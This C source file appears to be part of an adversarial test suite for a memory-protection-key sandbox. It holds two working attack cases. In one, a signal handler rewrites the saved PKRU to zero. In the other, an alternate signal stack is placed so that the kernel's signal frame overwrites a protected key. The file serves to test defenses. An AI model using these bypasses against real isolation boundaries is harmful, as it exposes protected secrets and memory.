// SPDX-License-Identifier: Apache-2.0 WITH LLVM-exception
//
// A6 and A7: signal handlers. A handler edits the saved PKRU of the code that it interrupted; and the frame
// itself is a write to wherever the signal stack points, done by the kernel.
#include "evil.h"
#include "evil_asm.h"
#include "xstate.h"

#include <signal.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <ucontext.h>
#include <unistd.h>

// As the kernel defines it; libc's sigaction may be somebody else's.
struct kernel_sigaction {
    void (*handler)(int signal, siginfo_t *info, void *context);
    unsigned long flags;
    void (*restorer)(void);
    uint64_t mask;
};
#define KERNEL_SA_RESTORER 0x04000000

static int install(int signal, void (*handler)(int, siginfo_t *, void *), unsigned long flags) {
    struct kernel_sigaction action = {handler, flags | SA_SIGINFO | KERNEL_SA_RESTORER, evil_restorer, 0};

    return (int)syscall(SYS_rt_sigaction, signal, &action, NULL, sizeof action.mask);
}

static void open_everything(int signal, siginfo_t *info, void *context) {
    (void)signal;
    (void)info;
    xstate_set_pkru(((ucontext_t *)context)->uc_mcontext.fpregs, 0);
}

int evil_signal_handler(const struct evil_target *target) {
    if (install(SIGUSR1, open_everything, 0) != 0)
        return evil_failed("rt_sigaction");
    if (syscall(SYS_tgkill, getpid(), gettid(), SIGUSR1) != 0)
        return evil_failed("tgkill");
    return evil_got(target, target->key, "a signal handler that edits the saved PKRU");
}

// Where the registers were stored in the frame of the last signal.
static uintptr_t frame_registers;

static void look_at_frame(int signal, siginfo_t *info, void *context) {
    (void)signal;
    (void)info;
    frame_registers = (uintptr_t)((ucontext_t *)context)->uc_mcontext.gregs;
}

// Takes a signal on the stack that ends at `top`.
static int signal_on(unsigned char *top, size_t size) {
    stack_t stack = {.ss_sp = top - size, .ss_size = size};

    if (syscall(SYS_sigaltstack, &stack, NULL) != 0)
        return -1;
    return (int)syscall(SYS_tgkill, getpid(), gettid(), SIGUSR1);
}

// The frame is pushed from the end of the signal stack downwards. A first one tells how far below the end the
// registers are; the second puts them where the key is.
int evil_signal_frame(const struct evil_target *target) {
    static _Alignas(64) unsigned char own[32768];
    unsigned char before[EVIL_KEY_MAX];
    size_t size = target->key_size < sizeof before ? target->key_size : sizeof before;
    size_t depth;
    unsigned char *top;

    if (install(SIGUSR1, look_at_frame, SA_ONSTACK) != 0)
        return evil_failed("rt_sigaction");
    if (signal_on(own + sizeof own, sizeof own) != 0)
        return evil_failed("sigaltstack or tgkill");
    depth = (uintptr_t)(own + sizeof own) - frame_registers;
    // Rounded as the kernel rounds.
    top = (unsigned char *)(((uintptr_t)target->key + depth) & ~UINT64_C(63));
    // What is pushed after the registers may need room below the key.
    mmap((void *)(((uintptr_t)target->key & ~UINT64_C(4095)) - sizeof own), sizeof own,
         PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
    memcpy(before, target->key, size);
    if (signal_on(top, sizeof own) != 0)
        return evil_failed("sigaltstack or tgkill");
    if (memcmp(before, target->key, size) == 0)
        return evil_failed_because("the key did not change");
    return evil_succeeded("overwrote %zu key bytes by a signal frame", size);
}
